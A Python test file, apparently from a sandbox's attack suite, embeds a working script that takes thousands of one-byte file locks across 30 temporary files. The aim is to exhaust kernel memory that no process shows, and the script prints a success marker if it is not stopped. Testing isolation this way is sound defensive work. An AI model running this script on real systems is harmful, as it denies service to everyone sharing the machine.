"""Locks files byte by byte: each lock takes memory of the system's that no process shows."""

from __future__ import annotations

from tests.attacks.kit import RIGHT, Work

ANSWERS = RIGHT


def attack(work: Work) -> None:
    work.after("""
    import fcntl, os, time
    def lock(how):
        for number in range(30):
            file = os.open(f"/tmp/lock-{number}", os.O_RDWR | os.O_CREAT)
            for at in range(4000, 0, -2): how(file, at)
    def by_open_file(file, at):
        import struct
        fcntl.fcntl(file, 37, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, at, 1, 0))
    for how in (by_open_file, lambda file, at: fcntl.lockf(file, fcntl.LOCK_EX, 1, at)):
        try: lock(how)
        except PermissionError: continue
        time.sleep(0.5)
        print("ATTACK-" + "SUCCEEDED")
    """)
